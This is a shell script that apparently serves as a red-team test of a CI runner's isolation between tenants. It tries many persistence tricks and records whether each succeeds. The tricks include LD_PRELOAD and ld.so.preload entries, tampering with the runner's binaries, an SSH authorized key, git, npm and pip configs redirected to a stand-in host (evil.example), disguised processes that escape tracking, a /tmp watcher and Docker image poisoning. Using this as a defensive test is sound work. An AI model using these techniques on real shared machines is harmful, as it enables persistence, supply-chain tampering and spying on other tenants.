# The red team's first job: it tries every way it knows to leave something for the next tenant of
# its instance, and says for each whether it managed (planted: its artefact seen in place), was
# refused (blocked), had no means here (unavailable), or said it managed while nothing is there
# (unproven: the suite fails on it). Every name it makes carries the token, so the next job can look
# for it anywhere. Each process it leaves is listed in @RESULTS@/processes (vector, a tag in its
# command line): the test sees it alive after the job ended, before the cleaning. Placeholders:
# @TOKEN@, @RESULTS@ (a directory the test reads before the release), @DOCKER_HOST@ (the engine
# jobs may use; empty: none).
set +e
T='@TOKEN@'
R='@RESULTS@'
root=$(cd "$RUNNER_WORKSPACE/../.." && pwd)
out="$R/attack"
uid=$(id -u)
: > "$out"
: > "$R/processes"
echo "$uid" > "$R/attacker-uid"
echo "$root" > "$R/runner-root"
record() { printf '%s\t%s\t%s\n' "$1" "$2" "$3" >> "$out"; }
# try NAME LEVEL CHECK COMMAND...: COMMAND plants the vector; CHECK (shell code, run here after it)
# proves it is in place. Planted only when the check passes.
try() {
  local name=$1 level=$2 check=$3 rc
  shift 3
  ( "$@" ) > /dev/null 2>&1
  rc=$?
  if ( eval "$check" ) > /dev/null 2>&1; then
    record "$name" "$level" planted
  elif [ "$rc" -ne 0 ]; then
    record "$name" "$level" blocked
  else
    record "$name" "$level" unproven
  fi
}
# needs NAME LEVEL TOOL: unavailable when the machine lacks the tool the vector needs.
needs() { command -v "$3" > /dev/null 2>&1 || { record "$1" "$2" unavailable; return 1; }; }
# escape COMMAND...: out of the job's session, and out of the runner's reach (it ends a job's
# processes by RUNNER_TRACKING_ID).
escape() { RUNNER_TRACKING_ID='' setsid nohup "$@" < /dev/null > /dev/null 2>&1 & }
# alive VECTOR TAG [TEST]: within 3 s a process of this user runs with TAG in its command line (and
# passes TEST, shell code given its /proc directory as $p); listed for the test.
alive() {
  local p c
  for _ in $(seq 1 30); do
    for p in /proc/[0-9]*; do
      [ "$(stat -c %u "$p" 2> /dev/null)" = "$uid" ] || continue
      c=$(tr '\0' ' ' < "$p/cmdline" 2> /dev/null)
      case "$c" in *"$2"*) ;; *) continue ;; esac
      [ -z "$3" ] || eval "$3" || continue
      printf '%s\t%s\n' "$1" "$2" >> "$R/processes"
      return 0
    done
    sleep 0.1
  done
  return 1
}

# Files wherever the job may write.
try tmp-file user "test -s /tmp/$T-file" sh -c "echo $T > /tmp/$T-file"
try var-tmp-file user "test -s /var/tmp/$T-file" sh -c "echo $T > /var/tmp/$T-file"
try dev-shm-file user "test -s /dev/shm/$T-file" sh -c "echo $T > /dev/shm/$T-file"
try hidden-tree user "test -s /tmp/.$T-hidden/.x/.y" sh -c "mkdir -p /tmp/.$T-hidden/.x && echo $T > /tmp/.$T-hidden/.x/.y"
try unreadable-dir user "[ \"\$(stat -c %a /tmp/$T-locked)\" = 0 ]" \
  sh -c "mkdir /tmp/$T-locked && echo $T > /tmp/$T-locked/f && chmod 000 /tmp/$T-locked"
try deep-tree user "python3 -c \"
import os
os.chdir('/tmp/$T-deep')
for _ in range(3000):
    os.chdir('d')
assert open('f').read() == '$T'\"" python3 -c "
import os
os.chdir('/tmp'); os.mkdir('$T-deep'); os.chdir('$T-deep')
for _ in range(3000):
    os.mkdir('d'); os.chdir('d')
open('f', 'w').write('$T')"
try fifo user "test -p /tmp/$T-fifo" mkfifo "/tmp/$T-fifo"
try symlink-trap user "[ \"\$(readlink /tmp/$T-link)\" = /etc/shadow ]" ln -s /etc/shadow "/tmp/$T-link"
try setuid-copy user "test -u /tmp/$T-suid" sh -c "cp /bin/sh /tmp/$T-suid && chmod 4755 /tmp/$T-suid"
try every-world-writable-dir user "test -s /tmp/.$T-ww && test -s /var/tmp/.$T-ww && test -s /dev/shm/.$T-ww" sh -c "
  for d in \$(find / -xdev -type d -perm -0002 2>/dev/null | head -200) /dev/shm /var/tmp; do
    echo $T > \"\$d/.$T-ww\" 2>/dev/null
  done"
try disk-fill user "[ \"\$(stat -c %s /tmp/$T-fill)\" -ge 268435456 ]" fallocate -l 256M "/tmp/$T-fill"
# Names a careless cleaner trips on: a newline, a leading dash, 255 bytes.
long=$(printf "%s-%0240d" "$T" 0)
try odd-names user "test -s '/var/tmp/$T
newline' && test -s '/var/tmp/-$T-dash' && test -s '/var/tmp/$long'" \
  sh -c "echo $T > '/var/tmp/$T
newline' && echo $T > '/var/tmp/-$T-dash' && echo $T > '/var/tmp/$long'"
try many-files user "[ \"\$(ls /var/tmp/$T-many | wc -l)\" = 20000 ]" python3 -c "
import os
os.mkdir('/var/tmp/$T-many')
for i in range(20000):
    open('/var/tmp/$T-many/%d' % i, 'w').close()"
try backdated-file user "[ \"\$(stat -c %Y /var/tmp/$T-old)\" -lt 1000000000 ]" \
  sh -c "echo $T > /var/tmp/$T-old && touch -d '2001-01-01 00:00:00' /var/tmp/$T-old"
try unix-socket-file user "test -S /tmp/$T-sock" python3 -c "
import socket
socket.socket(socket.AF_UNIX).bind('/tmp/$T-sock')"
# A file of root's linked under the token's name would be beyond a sweep by owner: the kernel
# refuses a hard link to another user's file (fs.protected_hardlinks).
try hardlink-to-root-file user "test /tmp/$T-hardlink -ef /etc/passwd" ln /etc/passwd "/tmp/$T-hardlink"
# On btrfs any user may make a subvolume where it can write, nest one in it, and snapshot its own:
# each has a device number of its own, so a sweep that keeps to one device never enters it.
if [ "$(stat -f -c %T /tmp 2> /dev/null)" = btrfs ] && command -v btrfs > /dev/null 2>&1; then
  try btrfs-subvolume user "test -s /tmp/$T-subvol/file" \
    sh -c "btrfs subvolume create /tmp/$T-subvol && echo $T > /tmp/$T-subvol/file"
  try btrfs-nested-subvolume user "test -s /tmp/$T-subvol/$T-inner/file" \
    sh -c "btrfs subvolume create /tmp/$T-subvol/$T-inner && echo $T > /tmp/$T-subvol/$T-inner/file"
  try btrfs-snapshot user "test -s /tmp/$T-snap/file" btrfs subvolume snapshot "/tmp/$T-subvol" "/tmp/$T-snap"
  try btrfs-subvolume-in-work user "test -s $root/_work/$T-subvol/file" \
    sh -c "btrfs subvolume create $root/_work/$T-subvol && echo $T > $root/_work/$T-subvol/file"
else
  for v in btrfs-subvolume btrfs-nested-subvolume btrfs-snapshot btrfs-subvolume-in-work; do record "$v" user unavailable; done
fi

# The runner's own files and root.
try runner-root-file user "test -s '$root/$T-planted'" sh -c "echo $T > '$root/$T-planted'"
try runner-env-preload user "grep -q 'LD_PRELOAD=/tmp/$T.so' '$root/.env'" sh -c "echo 'LD_PRELOAD=/tmp/$T.so' >> '$root/.env'"
try runner-path user "grep -q '/tmp/$T-bin' '$root/.path'" sh -c "echo '/tmp/$T-bin' >> '$root/.path'"
try job-started-hook user "grep -q 'HOOK_JOB_STARTED=/tmp/$T-hook.sh' '$root/.env' && test -x /tmp/$T-hook.sh" sh -c "
  printf '#!/bin/sh\necho ran > /tmp/$T-hook-ran\n' > /tmp/$T-hook.sh && chmod 755 /tmp/$T-hook.sh &&
  echo 'ACTIONS_RUNNER_HOOK_JOB_STARTED=/tmp/$T-hook.sh' >> '$root/.env'"
try runner-binary-replaced user "cmp -s /bin/true '$root/bin/Runner.Listener'" sh -c "cp /bin/true '$root/bin/Runner.Listener'"
try runner-binary-added user "test -s '$root/bin/$T'" sh -c "echo $T > '$root/bin/$T'"
try runner-script-changed user "grep -q '# $T' '$root/run.sh'" sh -c "echo '# $T' >> '$root/run.sh'"
try runner-diag-log user "test -s '$root/_diag/Runner_$T.log'" sh -c "mkdir -p '$root/_diag' && echo $T > '$root/_diag/Runner_$T.log'"
try actions-cache user "grep -q $T '$root/_work/_actions/actions/checkout/v4/action.yml'" \
  sh -c "mkdir -p '$root/_work/_actions/actions/checkout/v4' && echo $T > '$root/_work/_actions/actions/checkout/v4/action.yml'"
try tool-cache user "grep -q $T '$root/_work/_tool/node/20.0.0/x64/bin/node'" \
  sh -c "mkdir -p '$root/_work/_tool/node/20.0.0/x64/bin' && printf '#!/bin/sh\necho $T\n' > '$root/_work/_tool/node/20.0.0/x64/bin/node'"
try workspace-leftover user "test -s \"\$GITHUB_WORKSPACE/$T-left\"" sh -c "echo $T > \"\$GITHUB_WORKSPACE/$T-left\""

# The job user's home: shell start-up files and tools' configuration.
try bashrc-preload user "grep -q 'LD_PRELOAD=/tmp/$T.so' \"\$HOME/.bashrc\"" \
  sh -c "echo 'export LD_PRELOAD=/tmp/$T.so # $T' >> \"\$HOME/.bashrc\""
try profile user "grep -q $T \"\$HOME/.profile\" && grep -q $T \"\$HOME/.bash_profile\"" \
  sh -c "echo '# $T' >> \"\$HOME/.profile\" && echo '# $T' >> \"\$HOME/.bash_profile\""
try gitconfig user "grep -q 'evil.example/$T/' \"\$HOME/.gitconfig\"" \
  sh -c "printf '[url \"https://evil.example/$T/\"]\n\tinsteadOf = https://github.com/\n' >> \"\$HOME/.gitconfig\""
try npmrc user "grep -q 'evil.example/$T/' \"\$HOME/.npmrc\"" sh -c "echo 'registry=https://evil.example/$T/' > \"\$HOME/.npmrc\""
try pip-conf user "grep -q 'evil.example/$T/' \"\$HOME/.config/pip/pip.conf\"" \
  sh -c "mkdir -p \"\$HOME/.config/pip\" && printf '[global]\nindex-url = https://evil.example/$T/\n' > \"\$HOME/.config/pip/pip.conf\""
try python-sitecustomize user "grep -q $T \"\$HOME/.local/lib/python3/site-packages/sitecustomize.py\"" \
  sh -c "d=\"\$HOME/.local/lib/python3/site-packages\"; mkdir -p \"\$d\" && echo '# $T' > \"\$d/sitecustomize.py\""
try ssh-authorized-keys user "grep -q $T \"\$HOME/.ssh/authorized_keys\"" \
  sh -c "mkdir -p \"\$HOME/.ssh\" && echo 'ssh-ed25519 AAAAC3Nza $T' >> \"\$HOME/.ssh/authorized_keys\""
try system-profile user "grep -q $T /etc/profile" sh -c "echo '# $T' >> /etc/profile"
try system-preload user "grep -q $T /etc/ld.so.preload" sh -c "echo /tmp/$T.so >> /etc/ld.so.preload"

# Processes that outlive the job.
try process-setsid user "alive process-setsid $T-setsid" escape bash -c "sleep 3000; : $T-setsid"
try process-double-fork-renamed user "alive process-double-fork-renamed $T-renamed '[ \"\$(cat \$p/comm)\" = kworker/0:9 ]'" python3 -c "
import os, sys
if os.fork(): sys.exit(0)
os.setsid()
if os.fork(): os._exit(0)
os.environ.pop('RUNNER_TRACKING_ID', None)
os.execvp('python3', ['python3', '-c', 'import ctypes, time; ctypes.CDLL(None).prctl(15, b\"kworker/0:9\", 0, 0, 0); time.sleep(3000)', '$T-renamed'])"
# SigIgn's bit for SIGTERM (15) is 0x4000.
try process-ignores-sigterm user "alive process-ignores-sigterm $T-noterm '[ \$(( 0x\$(awk \"/^SigIgn:/ { print \\\$2 }\" \$p/status) & 16384 )) -ne 0 ]'" \
  escape bash -c "trap '' TERM HUP INT; while :; do sleep 1; done; : $T-noterm"
try process-respawner user "alive process-respawner $T-respawn" escape bash -c "while :; do sleep 0.3 & wait; done; : $T-respawn"
# Stopped: it takes no SIGTERM until continued, and then stops itself again.
try process-stopped user "alive process-stopped $T-stopped 'grep -q \"^State:.*T\" \$p/status'" \
  escape bash -c "while :; do kill -STOP \$\$; done; : $T-stopped"
# In a user and PID namespace of its own, where it is root and pid 1.
needs process-in-namespaces user unshare && try process-in-namespaces user "alive process-in-namespaces $T-userns" \
  escape unshare --user --map-root-user --pid --fork --mount-proc bash -c "sleep 3000; : $T-userns"
# Named as the runner's Worker: counted as a job in hand, it would keep the instance busy.
try fake-runner-worker user "alive fake-runner-worker $T-fakeworker" \
  escape bash -c "exec -a 'Runner.Worker spawnclient $T-fakeworker' sleep 3000"
# Named as the runner's Listener, leading a process group of its own as the real one does: an agent
# restarted now must not take it for the Listener it is to follow.
try fake-runner-listener user "alive fake-runner-listener $T-fakelistener '[ \"\$(cut -d\" \" -f5 \$p/stat)\" = \"\${p#/proc/}\" ]'" \
  escape bash -c "exec -a 'Runner.Listener run $T-fakelistener' sleep 3000"
# Forges what the agent reads for a job's arrival, the runner's perf log (RUNNER_PERFLOG) and _diag:
# a new job request every second, for ever.
perf=${RUNNER_PERFLOG:-$root/_diag}
printf '%s\n' 'while :; do' \
  "  echo \"MessageReceived_RunnerJobRequest:\$(date -u +%Y-%m-%dT%H:%M:%S.0000000Z)\" >> '$perf/Runner.perf'" \
  "  echo \"[\$(date -u '+%Y-%m-%d %H:%M:%SZ') INFO BrokerMessageListener] Acknowledging runner request '$T'.\" >> '$root/_diag/Runner_$T-forged.log'" \
  '  sleep 1' 'done' > "/tmp/$T-forge.sh"
try busy-forger user "alive busy-forger $T-forge.sh 'grep -qs MessageReceived_RunnerJobRequest $perf/Runner.perf'" \
  escape bash "/tmp/$T-forge.sh"
# Watches /tmp (inotify: IN_CREATE | IN_MODIFY) for the next tenant's files.
try inotify-watcher user "alive inotify-watcher $T-inotify 'grep -qs inotify \$p/fdinfo/*'" escape python3 -c "
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
if fd < 0 or libc.inotify_add_watch(fd, b'/tmp', 0x100 | 0x2) < 0: raise SystemExit(1)
time.sleep(3000)" "$T-inotify"
# Listens on an abstract Unix socket (no file to sweep): a service the next tenant may talk to.
try abstract-socket user "alive abstract-socket $T-abs 'grep -q @$T-abs /proc/net/unix'" escape python3 -c "
import socket, sys, time
s = socket.socket(socket.AF_UNIX)
s.bind(b'\0' + sys.argv[1].encode())
s.listen(1)
time.sleep(3000)" "$T-abs"

# Kernel objects the job user owns.
sysv() { awk -v u="$uid" -v a="$2" -v b="$3" 'NR > 1 && ($a == u || $b == u) { found = 1 } END { exit !found }' "/proc/sysvipc/$1"; }
needs sysv-shm user ipcmk && try sysv-shm user "sysv shm 8 10" ipcmk -M 4096
needs sysv-sem user ipcmk && try sysv-sem user "sysv sem 5 7" ipcmk -S 1
needs sysv-msg user ipcmk && try sysv-msg user "sysv msg 8 10" ipcmk -Q
try posix-shm user "test -e /dev/shm/$T-posix" python3 -c "import os; os.close(os.open('/dev/shm/$T-posix', os.O_CREAT | os.O_RDWR, 0o600))"
try posix-mqueue user "python3 -c \"
import ctypes, os, sys
rt = ctypes.CDLL('librt.so.1', use_errno=True)
sys.exit(0 if rt.mq_open(b'/$T-mq', os.O_RDONLY) >= 0 else 1)\"" python3 -c "
import ctypes, os, sys
rt = ctypes.CDLL('librt.so.1', use_errno=True)
sys.exit(0 if rt.mq_open(b'/$T-mq', os.O_CREAT | os.O_RDWR, 0o644, None) >= 0 else 1)"
# Keys: add_key(2) (248) adds one to a keyring; keyctl(KEYCTL_SEARCH = 10, …) (250) finds it.
add_key() { python3 -c "
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
sys.exit(0 if libc.syscall(248, b'user', b'$2', b'secret', 6, $1) > 0 else 1)"; }
key_in() { python3 -c "
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
sys.exit(0 if libc.syscall(250, 10, $1, b'user', b'$2', 0) > 0 else 1)"; }
# The user's keyring (KEY_SPEC_USER_KEYRING, -4).
try user-keyring user "key_in -4 $T-key" add_key -4 "$T-key"
# The session keyring (KEY_SPEC_SESSION_KEYRING, -3) the job was started in: shared with the next
# tenant's job if both inherit the agent's.
try session-keyring user "key_in -3 $T-session" add_key -3 "$T-session"

# Schedulers and session managers.
needs crontab user crontab && try crontab user "crontab -l | grep -q $T" sh -c "echo '* * * * * echo $T > /tmp/$T-cron' | crontab -"
needs at-job user at && try at-job user "atq | grep -q ." sh -c "echo 'echo $T > /tmp/$T-at' | at now + 2 minutes"
needs systemd-user-timer user systemd-run && try systemd-user-timer user "systemctl --user list-timers --all | grep -q $T" \
  systemd-run --user --unit="$T-timer" --on-active=60 touch "/tmp/$T-timer"
needs linger user loginctl && try linger user "test -e /var/lib/systemd/linger/\$(id -un)" loginctl enable-linger

# The machine itself.
needs clock user date && try clock user "[ \$(date +%Y) = 2001 ]" date -s '2001-01-01 00:00:00'
needs hostname user hostname && try hostname user "[ \"\$(hostname)\" = $T ]" hostname "$T"

# Through the Docker engine (job_privileges = docker: root on the machine in effect). Blocked where
# the job user has no engine; the file written as root through a bind mount is beyond any cleaning.
export DOCKER_HOST='@DOCKER_HOST@'
[ -n "$DOCKER_HOST" ] || unset DOCKER_HOST
docker_vectors="docker-build docker-found-volume docker-image docker-container docker-volume docker-network docker-root-file"
if ! command -v docker > /dev/null 2>&1; then
  for v in $docker_vectors; do record "$v" docker unavailable; done
elif ! docker version > /dev/null 2>&1; then
  for v in $docker_vectors; do record "$v" docker blocked; done
else
  ctx=$(mktemp -d)
  printf 'FROM ubuntu:latest\nRUN ["/bin/busybox", "touch", "/%s"]\n' "$T" > "$ctx/Dockerfile"
  image_id() { docker image inspect --format '{{.Id}}' "$1" 2> /dev/null; }
  try docker-build docker "image_id $T-built | grep -q ." \
    env DOCKER_BUILDKIT=0 docker build -q --network none -t "$T-built" "$ctx"
  # A volume the image itself ships (image-cache, made before any assignment): a file written into it.
  try docker-found-volume docker "docker run --rm --network none -v image-cache:/v $T-built /bin/busybox test -e /v/$T" \
    docker run --rm --network none -v image-cache:/v "$T-built" /bin/busybox touch "/v/$T"
  try docker-image docker "[ -n \"\$(image_id $T-poison)\" ] && [ \"\$(image_id ubuntu:latest)\" = \"\$(image_id $T-poison)\" ]" \
    sh -c "tar -cf - -C '$ctx' Dockerfile | docker import - '$T-poison' && docker tag '$T-poison' ubuntu:latest"
  try docker-container docker "docker ps --filter name=$T-ctr --format '{{.Names}}' | grep -q $T" \
    docker run -d --restart always --network none --name "$T-ctr" "$T-built" /bin/busybox sleep 100000
  try docker-volume docker "docker volume inspect $T-vol" docker volume create "$T-vol"
  try docker-network docker "docker network inspect $T-net" docker network create --internal "$T-net"
  try docker-root-file docker "[ \"\$(stat -c %u /tmp/$T-root)\" = 0 ]" \
    docker run --rm --network none -v /tmp:/t "$T-built" /bin/busybox touch "/t/$T-root"
  rm -rf "$ctx"
fi
exit 0
